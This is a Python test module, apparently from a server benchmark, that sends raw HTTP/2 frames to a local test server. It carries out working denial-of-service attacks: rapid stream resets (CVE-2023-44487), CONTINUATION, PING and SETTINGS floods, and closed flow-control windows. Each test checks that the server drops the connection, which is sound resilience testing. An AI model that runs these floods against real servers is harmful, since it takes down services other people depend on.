"""Attacks over HTTP/2 (RFC 9113) in the siege: resets, endless blocks of fields, closed windows."""

from __future__ import annotations

import contextlib
import random
import socket
import struct
import time

from .common import BenchError
from .servers.server import HOST

HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
STREAMS = 100  # that a server allows at once
PATIENCE = 10.0  # s
KEY = "sk-siege"


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: str) -> bytes:
    return bytes([len(value)]) + value.encode()


def _fields(path: str) -> bytes:
    """GET without a dynamic table (RFC 7541 section 6.2.2, 6.2.3)."""
    fixed = b"\x82\x86\x04" + _text(path) + b"\x01" + _text("x")
    return fixed + b"\x1f\x08" + _text(f"Bearer {KEY}")


def _connect(port: int, first: bytes = b"") -> socket.socket:
    """first: the payload of SETTINGS."""
    sock = socket.create_connection((HOST, port), PATIENCE)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(SETTINGS, 0, 0, first))
    return sock


def _must_end(sock: socket.socket, what: str) -> None:
    """Read until the server ends the connection, which it has to do."""
    try:
        while sock.recv(65536):
            continue
    except TimeoutError:
        raise BenchError(f"{what} did not end the connection") from None
    except OSError:
        return


def rapid_resets(port: int, dice: random.Random, end: float) -> None:
    """Requests that are reset at once, as many as the server takes (CVE-2023-44487)."""
    block = _fields(dice.choice(("/health", "/openapi.json")))
    with _connect(port) as sock:
        for first in range(1, 2000, 100):
            pairs = (
                _frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                + _frame(RST_STREAM, 0, stream, CANCEL)
                for stream in range(first, first + 100, 2)
            )
            try:
                sock.sendall(b"".join(pairs))
            except OSError:
                return
        _must_end(sock, "1 000 resets")


def endless_blocks(port: int, dice: random.Random, end: float) -> None:
    """A block of fields that goes on, and frames that carry no request."""
    flood = dice.choice(
        (
            _frame(HEADERS, END_STREAM, 1, _fields("/health"))
            + _frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * 500,
            _frame(HEADERS, END_STREAM, 1) + _frame(CONTINUATION, 0, 1) * 5000,
            _frame(PING, 0, 0, bytes(8)) * 5000,
            _frame(SETTINGS, 0, 0) * 5000,
        )
    )
    with _connect(port) as sock:
        with contextlib.suppress(OSError):
            sock.sendall(flood)
        _must_end(sock, "a flood of frames")


def closed_windows(port: int, dice: random.Random, end: float) -> None:
    """Streams with large responses and no window for them."""
    window = struct.pack(">HI", 4, dice.randrange(2))
    block = _fields("/openapi.json")
    sockets = []
    try:
        for _ in range(4):
            sock = _connect(port, window)
            sockets.append(sock)
            for stream in range(1, 2 * STREAMS, 2):
                sock.sendall(_frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
        time.sleep(max(0.0, min(end, time.monotonic() + dice.random() * 40) - time.monotonic()))
    finally:
        for sock in sockets:
            sock.close()
